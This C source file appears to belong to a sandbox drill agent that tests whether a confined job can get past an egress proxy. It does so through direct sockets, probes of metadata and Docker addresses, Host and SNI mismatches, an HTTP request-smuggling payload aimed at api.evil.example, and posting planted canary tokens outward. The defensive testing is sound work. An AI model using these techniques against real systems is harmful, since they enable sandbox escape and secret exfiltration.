/*
 * cordon-drill-agent, the reachability plane: sockets around the proxy
 * (TCP, UDP, DNS, raw and packet sockets, netlink) and tricks through it
 * (hosts, methods, paths, Host and SNI mismatches, smuggling, cordon's own
 * ports), and last the planted canaries, whose use stops the job.
 */
#include "agent.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* --- reachability plane --------------------------------------------------- */

struct probe {
	int fd;
	char name[80];
};

/* Starts a probe: a non-blocking connect (stream), or one datagram
 * (dgram). 0 when it waits in p[*n], 1 when connected at once, -errno. */
static int
probe_start(struct probe *p, int *n, const char *host, int port, int type,
    const void *payload, size_t len)
{
	union addr a;
	socklen_t alen = parse_addr(host, port, &a);
	int fd, r = 0;

	if (*n >= MAX_PROBES || alen == 0)
		return -EINVAL;
	fd = socket(a.sa.sa_family, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	if (type == SOCK_STREAM && connect(fd, &a.sa, alen) == 0)
		r = 1;
	else if (type == SOCK_STREAM && errno != EINPROGRESS)
		r = -errno;
	else if (type == SOCK_DGRAM &&
	    sendto(fd, payload, len, 0, &a.sa, alen) < 0)
		r = -errno;
	if (r != 0) {
		close(fd);
		return r;
	}
	p[*n].fd = fd;
	hostport(p[*n].name, sizeof(p[*n].name), host, port);
	(*n)++;
	return 0;
}

/* Waits up to ms for the probes: a connect to finish (stream), a reply to
 * arrive (dgram). The successes are counted and named; for connects the
 * errors are counted, timeouts as ETIMEDOUT. Closes them all. */
static int
probe_wait(struct probe *p, int n, int ms, bool stream, struct errs *c,
    char *names, size_t len)
{
	int64_t deadline = now_ms() + ms;
	int ok = 0;

	for (;;) {
		struct pollfd pfd[MAX_PROBES];
		int idx[MAX_PROBES], k = 0, r;
		int64_t left = deadline - now_ms();

		for (int i = 0; i < n; i++)
			if (p[i].fd >= 0) {
				pfd[k] = (struct pollfd){ p[i].fd,
					stream ? POLLOUT : POLLIN, 0 };
				idx[k++] = i;
			}
		if (k == 0 || left <= 0)
			break;
		if ((r = poll(pfd, (nfds_t)k, (int)left)) < 0 && errno == EINTR)
			continue;
		if (r <= 0)
			break;
		for (int j = 0; j < k; j++) {
			struct probe *q = &p[idx[j]];
			int err = 0;
			socklen_t elen = sizeof(err);
			char byte;

			if (pfd[j].revents == 0)
				continue;
			if (stream)
				(void)getsockopt(q->fd, SOL_SOCKET, SO_ERROR,
				    &err, &elen);
			else if (recv(q->fd, &byte, 1, MSG_DONTWAIT) < 0)
				err = errno;
			if (err == 0) {
				ok++;
				append(names, len, ", ", "%s", q->name);
			} else if (stream) {
				errs_add(c, err);
			}
			close(q->fd);
			q->fd = -1;
		}
	}
	for (int i = 0; i < n; i++)
		if (p[i].fd >= 0) {
			if (stream)
				errs_add(c, ETIMEDOUT);
			close(p[i].fd);
		}
	return ok;
}

void
step_direct_tcp(struct drill *d)
{
	static const struct {
		const char *addr;
		int port;
	} fixed[] = { { "1.1.1.1", 443 }, { "8.8.8.8", 53 }, { "10.0.0.1", 80 },
		{ "192.168.0.1", 80 }, { "169.254.169.254", 80 },
		{ "172.17.0.1", 2375 } };
	struct probe p[MAX_PROBES];
	struct errs c = { 0 };
	char names[300] = "", ev[256] = "", name[80];
	int n = 0, ok = 0, r, targets = d->nsvc + 6;

	for (int i = 0; i < targets; i++) {
		const char *addr =
		    i < d->nsvc ? d->svc[i].addr : fixed[i - d->nsvc].addr;
		int port =
		    i < d->nsvc ? d->svc[i].port : fixed[i - d->nsvc].port;

		if ((r = probe_start(p, &n, addr, port, SOCK_STREAM, NULL, 0)) <
		    0) {
			errs_add(&c, -r);
		} else if (r == 1) {
			ok++;
			hostport(name, sizeof(name), addr, port);
			append(names, sizeof(names), ", ", "%s", name);
		}
	}
	ok += probe_wait(p, n, 1000, true, &c, names, sizeof(names));
	errs_append(&c, ev, sizeof(ev));
	if (ok > 0) {
		append(ev, sizeof(ev), " ", "connected=%d", ok);
		report(d, "escaped", ev, "connected to %s", names);
	} else {
		report(d, "stopped", ev, "none of %d direct connections opened",
		    targets);
	}
}

/* Sends payload to each target, waits ms for a reply: one line. */
static void
udp_report(struct drill *d, const char *const *addrs, const int *ports,
    int targets, const void *payload, size_t len, int ms)
{
	struct probe p[MAX_PROBES];
	struct errs c = { 0 };
	char names[300] = "", ev[256] = "";
	int n = 0, r, replies;

	for (int i = 0; i < targets; i++)
		if ((r = probe_start(p, &n, addrs[i], ports[i], SOCK_DGRAM,
			 payload, len)) < 0)
			errs_add(&c, -r);
	replies = probe_wait(p, n, ms, false, &c, names, sizeof(names));
	errs_append(&c, ev, sizeof(ev));
	append(ev, sizeof(ev), " ", "sent=%d replies=%d", n, replies);
	if (replies > 0)
		report(d, "escaped", ev, "a reply came from %s", names);
	else if (n > 0)
		report(d, "stopped", ev, "no reply from %d targets in %d ms", n,
		    ms);
	else
		report(d, "stopped", ev, "nothing could be sent to %d targets",
		    targets);
}

void
step_direct_udp(struct drill *d)
{
	const char *addrs[MAX_SERVICES + 1];
	int ports[MAX_SERVICES + 1], n = 0;

	for (int i = 0; i < d->nsvc; i++, n++) {
		addrs[n] = d->svc[i].addr;
		ports[n] = d->svc[i].port;
	}
	addrs[n] = "8.8.8.8";
	ports[n++] = 53;
	udp_report(d, addrs, ports, n, "cordon-drill", 12, 500);
}

void
step_dns(struct drill *d)
{
	/* One question, A example.com IN, recursion desired. */
	unsigned char q[] = { 0, 0, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0, 7, 'e',
		'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
	const char *addrs[MAX_PROBES];
	int ports[MAX_PROBES], n = 0;
	char resolv[8][64], *s, *line, *save = NULL;
	int nres = 0;
	size_t len;

	random_bytes(q, 2);
	for (int i = 0; i < d->nns; i++)
		addrs[n++] = d->ns[i];
	if ((s = slurp("/etc/resolv.conf", 16384, &len)) != NULL) {
		for (line = strtok_r(s, "\n", &save); line != NULL && nres < 8;
		     line = strtok_r(NULL, "\n", &save))
			if (sscanf(line, "nameserver %63s", resolv[nres]) == 1)
				addrs[n++] = resolv[nres++];
		free(s);
	}
	addrs[n++] = "127.0.0.53";
	addrs[n++] = "1.1.1.1";
	addrs[n++] = "8.8.8.8";
	for (int i = 0; i < n; i++)
		ports[i] = 53;
	udp_report(d, addrs, ports, n, q, sizeof(q), 1000);
}

struct sock_try {
	int domain, type, protocol;
	const char *what;
};

/* Opens the sockets the job should not have: escaped if one opens. */
static void
socket_step(struct drill *d, const struct sock_try *t, int n)
{
	char detail[200] = "", ev[96] = "";
	bool opened = false;

	for (int i = 0; i < n; i++) {
		int fd = socket(t[i].domain, t[i].type | SOCK_CLOEXEC,
		    t[i].protocol);
		int err = fd < 0 ? errno : 0;

		if (fd >= 0) {
			opened = true;
			close(fd);
		} else if (ev[0] == '\0') {
			snprintf(ev, sizeof(ev), "syscall=socket errno=%s",
			    errname(err).s);
		}
		append(detail, sizeof(detail), ", ", "%s: %s", t[i].what,
		    fd >= 0 ? "opened" : errname(err).s);
	}
	report(d, opened ? "escaped" : "stopped",
	    opened ? "syscall=socket" : ev, "%s", detail);
}

void
step_raw_socket(struct drill *d)
{
	static const struct sock_try t[] = {
		{ AF_INET, SOCK_RAW, IPPROTO_ICMP, "raw ICMP" },
		{ AF_INET, SOCK_RAW, IPPROTO_RAW, "raw IP" },
	};

	socket_step(d, t, 2);
}

void
step_packet_socket(struct drill *d)
{
	const struct sock_try t = { AF_PACKET, SOCK_RAW, htons(ETH_P_ALL),
		"packet socket" };

	socket_step(d, &t, 1);
}

/* The names of the links in an RTM_NEWLINK message, "lo" or not. */
static void
link_name(struct nlmsghdr *h, char *links, size_t n, bool *other)
{
	struct ifinfomsg *ifi = NLMSG_DATA(h);
	long len = (long)h->nlmsg_len - (long)NLMSG_LENGTH(sizeof(*ifi));

	for (struct rtattr *a = IFLA_RTA(ifi); RTA_OK(a, len);
	     a = RTA_NEXT(a, len))
		if (a->rta_type == IFLA_IFNAME) {
			int k = (int)strnlen(RTA_DATA(a), RTA_PAYLOAD(a));
			append(links, n, ",", "%.*s", k, (char *)RTA_DATA(a));
			if (k != 2 || memcmp(RTA_DATA(a), "lo", 2) != 0)
				*other = true;
		}
}

void
step_netlink(struct drill *d)
{
	struct {
		struct nlmsghdr nh;
		struct ifinfomsg ifi;
	} req = { .nh = { .nlmsg_len = sizeof(req),
		      .nlmsg_type = RTM_GETLINK,
		      .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP,
		      .nlmsg_seq = 1 },
		.ifi = { .ifi_family = AF_UNSPEC } };
	struct sockaddr_nl sa = { .nl_family = AF_NETLINK };
	struct timeval tv = { 1, 0 };
	union {
		struct nlmsghdr h;
		char b[16384];
	} u;
	char links[200] = "", ev[256];
	bool other = false, done = false;
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
	int err = 0;

	if (fd < 0) {
		snprintf(ev, sizeof(ev), "syscall=socket errno=%s",
		    errname(errno).s);
		report(d, "stopped", ev, "no netlink socket");
		return;
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	if (sendto(fd, &req, sizeof(req), 0, (struct sockaddr *)&sa,
		sizeof(sa)) < 0)
		err = errno;
	while (err == 0 && !done) {
		long n = recv(fd, u.b, sizeof(u.b), 0);

		if (n <= 0) {
			err = n < 0 ? errno : ECONNRESET;
			break;
		}
		for (struct nlmsghdr *h = &u.h; !done && NLMSG_OK(h, n);
		     h = NLMSG_NEXT(h, n)) {
			if (h->nlmsg_type == NLMSG_ERROR)
				err =
				    -((struct nlmsgerr *)NLMSG_DATA(h))->error;
			else if (h->nlmsg_type == RTM_NEWLINK)
				link_name(h, links, sizeof(links), &other);
			done = h->nlmsg_type == NLMSG_DONE ||
			    h->nlmsg_type == NLMSG_ERROR;
		}
	}
	close(fd);
	if (err != 0 && links[0] == '\0') {
		snprintf(ev, sizeof(ev), "syscall=recv errno=%s",
		    errname(err).s);
		report(d, "stopped", ev, "the link dump failed");
		return;
	}
	snprintf(ev, sizeof(ev), "links=%s", links[0] != '\0' ? links : "none");
	if (other)
		report(d, "escaped", ev,
		    "the job sees network links besides lo");
	else
		report(d, "stopped", ev, "the job sees no link but lo");
}

void
step_proxy_unlisted(struct drill *d)
{
	struct tally t = { 0 };
	struct resp *r = resp_new(d);

	if (r == NULL)
		return;
	tally_request(&t, r, "GET", "http://api.evil.example/",
	    "api.evil.example", "", NULL);
	free(r);
	tally_report(d, &t, false, "the proxy refused a host no rule names");
}

void
step_proxy_method_path(struct drill *d)
{
	const struct rule *u = find_rule(d, "plain", "plain");
	char url[1400], host[300];
	struct tally t = { 0 };
	struct resp *r;

	if (u == NULL) {
		report(d, "untested", "-", "no plain rule");
		return;
	}
	if ((r = resp_new(d)) == NULL)
		return;
	rule_url(u, "drill", url, sizeof(url), host, sizeof(host));
	tally_request(&t, r, "DELETE", url, host, "", NULL);
	snprintf(url, sizeof(url), "http://%s/drill-not-allowed/", host);
	tally_request(&t, r, "GET", url, host, "", NULL);
	free(r);
	tally_report(d, &t, true,
	    "the proxy refused a method and a path the rule does not allow");
}

void
step_proxy_host_mismatch(struct drill *d)
{
	const struct rule *u = find_rule(d, "plain", "plain");
	char url[1400], host[300];
	struct tally t = { 0 };
	struct resp *r;

	if (u == NULL) {
		report(d, "untested", "-", "no plain rule");
		return;
	}
	if ((r = resp_new(d)) == NULL)
		return;
	rule_url(u, "drill", url, sizeof(url), host, sizeof(host));
	tally_request(&t, r, "GET", url, "api.evil.example", "", NULL);
	free(r);
	tally_report(d, &t, false,
	    "the proxy refused a Host header that is not the URL's");
}

struct bytes {
	unsigned char b[512];
	size_t n;
};

static void
put(struct bytes *o, const void *p, size_t n)
{
	if (o->n + n > sizeof(o->b))
		return; /* cannot happen: the hello is about 250 bytes */
	memcpy(o->b + o->n, p, n);
	o->n += n;
}

static void
put8(struct bytes *o, unsigned v)
{
	unsigned char c = (unsigned char)v;

	put(o, &c, 1);
}

static void
put16(struct bytes *o, unsigned v)
{
	put8(o, v >> 8);
	put8(o, v);
}

/* A length field of w bytes, filled in by close_len once what it covers
 * is written. */
static size_t
open_len(struct bytes *o, size_t w)
{
	size_t at = o->n;

	put(o, "\0\0\0", w);
	return at;
}

static void
close_len(struct bytes *o, size_t at, size_t w)
{
	size_t len = o->n - at - w;

	for (size_t i = 0; i < w && at + w <= sizeof(o->b); i++)
		o->b[at + i] = (unsigned char)(len >> (8 * (w - 1 - i)));
}

/* A TLS ClientHello for SNI drill.invalid that a TLS 1.3 or 1.2 server
 * answers: the common suites and groups, an x25519 key share. */
static void
client_hello(struct bytes *o)
{
	static const unsigned char suites[] = { 0x13, 0x01, 0x13, 0x02, 0x13,
		0x03, 0xc0, 0x2b, 0xc0, 0x2f, 0xc0, 0x2c, 0xc0, 0x30, 0xcc,
		0xa9, 0xcc, 0xa8 };
	static const unsigned char groups[] = { 0x00, 0x1d, 0x00, 0x17, 0x00,
		0x18 };
	static const unsigned char sigalgs[] = { 0x04, 0x03, 0x08, 0x04, 0x04,
		0x01, 0x05, 0x03, 0x08, 0x05, 0x05, 0x01, 0x08, 0x06, 0x06,
		0x01 };
	static const unsigned char versions[] = { 0x03, 0x04, 0x03, 0x03 };
	static const char sni[] = "drill.invalid";
	unsigned char rnd[96]; /* random, session id, key share */
	size_t rec, hs, exts, ext, list;

	random_bytes(rnd, sizeof(rnd));
	put8(o, 0x16); /* handshake record, TLS 1.2 */
	put16(o, 0x0303);
	rec = open_len(o, 2);
	put8(o, 0x01); /* ClientHello */
	hs = open_len(o, 3);
	put16(o, 0x0303);
	put(o, rnd, 32);
	put8(o, 32);
	put(o, rnd + 32, 32);
	put16(o, sizeof(suites));
	put(o, suites, sizeof(suites));
	put8(o, 1); /* compression: null only */
	put8(o, 0);
	exts = open_len(o, 2);

	put16(o, 0x0000); /* server_name */
	ext = open_len(o, 2);
	list = open_len(o, 2);
	put8(o, 0); /* host_name */
	put16(o, sizeof(sni) - 1);
	put(o, sni, sizeof(sni) - 1);
	close_len(o, list, 2);
	close_len(o, ext, 2);

	put16(o, 0x000a); /* supported_groups */
	ext = open_len(o, 2);
	put16(o, sizeof(groups));
	put(o, groups, sizeof(groups));
	close_len(o, ext, 2);

	put16(o, 0x000b); /* ec_point_formats: uncompressed */
	put16(o, 2);
	put8(o, 1);
	put8(o, 0);

	put16(o, 0x000d); /* signature_algorithms */
	ext = open_len(o, 2);
	put16(o, sizeof(sigalgs));
	put(o, sigalgs, sizeof(sigalgs));
	close_len(o, ext, 2);

	put16(o, 0x002b); /* supported_versions */
	ext = open_len(o, 2);
	put8(o, sizeof(versions));
	put(o, versions, sizeof(versions));
	close_len(o, ext, 2);

	put16(o, 0x0033); /* key_share: x25519 */
	ext = open_len(o, 2);
	list = open_len(o, 2);
	put16(o, 0x001d);
	put16(o, 32);
	put(o, rnd + 64, 32);
	close_len(o, list, 2);
	close_len(o, ext, 2);

	close_len(o, exts, 2);
	close_len(o, hs, 3);
	close_len(o, rec, 2);
}

void
step_proxy_sni_mismatch(struct drill *d)
{
	const struct rule *u = find_rule(d, "terminate", "passthrough");
	char host[300], ev[160] = "";
	unsigned char in[6];
	struct bytes hello = { .n = 0 };
	struct resp *r;
	int64_t deadline;
	ssize_t k = 0;
	size_t got = 0;
	bool answered;
	int fd;

	if (u == NULL) {
		report(d, "untested", "-", "no terminate or passthrough rule");
		return;
	}
	if ((r = resp_new(d)) == NULL)
		return;
	hostport(host, sizeof(host), u->host, u->port);
	proxy_request("CONNECT", host, host, "", NULL, r, &fd);
	resp_evidence(r, ev, sizeof(ev));
	answered = r->h.status != 0;
	free(r);
	if (fd < 0) {
		report(d, "untested", ev,
		    "CONNECT %s before TLS began; the SNI check was not "
		    "reached",
		    answered ? "was refused" : "got no answer");
		return;
	}
	client_hello(&hello);
	deadline = now_ms() + 5000;
	if ((k = send_all(fd, hello.b, hello.n, deadline)) == 0)
		while (got < sizeof(in) && !(got > 0 && in[0] != 0x16) &&
		    (k = read_by(fd, in + got, sizeof(in) - got, deadline)) > 0)
			got += (size_t)k;
	close(fd);
	if (got == sizeof(in) && in[0] == 0x16 && in[5] == 0x02)
		report(d, "escaped", "tls=server_hello",
		    "the proxy went on to a ServerHello for SNI drill.invalid "
		    "in a tunnel to %s",
		    host);
	else if (got > 0 && in[0] == 0x15)
		report(d, "stopped", "tls=alert",
		    "the proxy answered SNI drill.invalid with an alert");
	else if (got == 0 && (k == 0 || k == -ECONNRESET || k == -EPIPE))
		report(d, "stopped", "tls=closed",
		    "the proxy closed the tunnel on SNI drill.invalid");
	else if (got == 0 && k == -ETIMEDOUT)
		report(d, "untested", "tls=timeout",
		    "no answer to the ClientHello in 5 s");
	else
		report(d, "untested", "tls=unexpected",
		    "the answer to the ClientHello was not TLS as expected");
}

void
step_proxy_smuggle(struct drill *d)
{
	const struct rule *u = find_rule(d, "plain", "plain");
	char url[1400], host[300], req[4096], ev[160] = "";
	struct head h, first = { 0 };
	int64_t deadline = now_ms() + 5000;
	size_t len = 0, cap = 2 * (HEAD_MAX + BODY_MAX), off = 0;
	int fd, err = 0, answers = 0, through = 0;
	char *buf;
	ssize_t k = 0;

	if (u == NULL) {
		report(d, "untested", "-", "no plain rule");
		return;
	}
	rule_url(u, "", url, sizeof(url), host, sizeof(host));
	snprintf(req, sizeof(req),
	    "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Length: 6\r\n"
	    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
	    "GET http://api.evil.example/ HTTP/1.1\r\n"
	    "Host: api.evil.example\r\n\r\n",
	    url, host);
	if ((buf = malloc(cap)) == NULL) {
		report(d, "untested", "errno=ENOMEM", "no memory");
		return;
	}
	if ((fd = proxy_open(deadline)) < 0) {
		err = -fd;
	} else {
		if ((k = send_all(fd, req, strlen(req), deadline)) < 0)
			err = (int)-k;
		while (err == 0 && len < cap &&
		    (k = read_by(fd, buf + len, cap - len, deadline)) > 0)
			len += (size_t)k;
		if (err == 0 && k < 0)
			err = (int)-k;
		close(fd);
	}
	/* The answers in a row, as far as their lengths are known. */
	while (off < len && (k = parse_head(buf + off, len - off, &h)) > 0) {
		if (answers++ == 0)
			first = h;
		through += verdict(&h, false) == V_THROUGH;
		if (bodiless(&h, false))
			off += (size_t)k;
		else if (h.clen >= 0)
			off += (size_t)k + (size_t)h.clen;
		else
			break;
	}
	free(buf);
	if (answers == 0) {
		snprintf(ev, sizeof(ev), "errno=%s",
		    errname(err != 0 ? err : ECONNRESET).s);
		report(d, "untested", ev, "no answer to the ambiguous request");
		return;
	}
	head_evidence(&first, ev, sizeof(ev));
	append(ev, sizeof(ev), " ", "responses=%d", answers);
	if (through > 0)
		report(d, "escaped", ev,
		    "%d answer(s) came from an upstream: the ambiguous request "
		    "was forwarded",
		    through);
	else
		report(d, "stopped", ev,
		    "the proxy refused a request with both Content-Length and "
		    "chunked");
}

void
step_proxy_connect_broker(struct drill *d)
{
	char target[128];
	struct tally t = { 0 };
	struct resp *r = resp_new(d);

	if (r == NULL)
		return;
	tally_request(&t, r, "CONNECT", "broker.cordon:443",
	    "broker.cordon:443", "", NULL);
	tally_request(&t, r, "CONNECT", "broker.cordon:80", "broker.cordon:80",
	    "", NULL);
	for (int i = 0; i < d->nsvc; i++) {
		hostport(target, sizeof(target), d->svc[i].addr,
		    d->svc[i].port);
		tally_request(&t, r, "CONNECT", target, target, "", NULL);
	}
	free(r);
	tally_report(d, &t, false,
	    "the proxy opened no tunnel to cordon itself");
}

void
step_proxy_service_ports(struct drill *d)
{
	char url[1400], host[300];
	struct tally t = { 0 };
	struct resp *r;

	if (d->nsvc == 0) {
		report(d, "untested", "-", "no param service");
		return;
	}
	if ((r = resp_new(d)) == NULL)
		return;
	for (int i = 0; i < d->nsvc; i++) {
		hostport(host, sizeof(host), d->svc[i].addr, d->svc[i].port);
		snprintf(url, sizeof(url), "http://%s/healthz", host);
		tally_request(&t, r, "GET", url, host, "", NULL);
		hostport(host, sizeof(host), "localhost", d->svc[i].port);
		snprintf(url, sizeof(url), "http://%s/healthz", host);
		tally_request(&t, r, "GET", url, host, "", NULL);
	}
	for (int i = 0; i < d->nrule; i++)
		for (int j = 0; j < d->nsvc; j++)
			if (d->rule[i].port == d->svc[j].port) {
				hostport(host, sizeof(host), d->rule[i].host,
				    d->rule[i].port);
				snprintf(url, sizeof(url), "http://%s/healthz",
				    host);
				tally_request(&t, r, "GET", url, host, "",
				    NULL);
				break;
			}
	free(r);
	tally_report(d, &t, false, "the proxy reached none of cordon's ports");
}

void
step_exfil_canary(struct drill *d)
{
	const struct rule *u = find_rule(d, "plain", "plain");
	char url[1400], host[300], body[128];
	struct tally t = { 0 };
	struct resp *r;

	if (d->nfound == 0 || u == NULL) {
		report(d, "untested", "-",
		    d->nfound == 0 ? "find_tokens found no token"
				   : "no plain rule");
		return;
	}
	if ((r = resp_new(d)) == NULL)
		return;
	rule_url(u, "", url, sizeof(url), host, sizeof(host));
	for (int i = 0; i < d->nfound; i++) {
		snprintf(body, sizeof(body),
		    "{\"note\": \"backup\", \"key\": \"%s\"}", d->found[i]);
		/* The rule's own method, so that the proxy's rule check
		 * passes and only the token check is left. */
		tally_request(&t, r, u->method, url, host,
		    "Content-Type: application/json\r\n", body);
	}
	free(r);
	tally_report(d, &t, false, "the proxy let no found token out");
	/* The tripwire should stop the job now; being killed here is the
	 * expected end. */
	sleep(3);
}
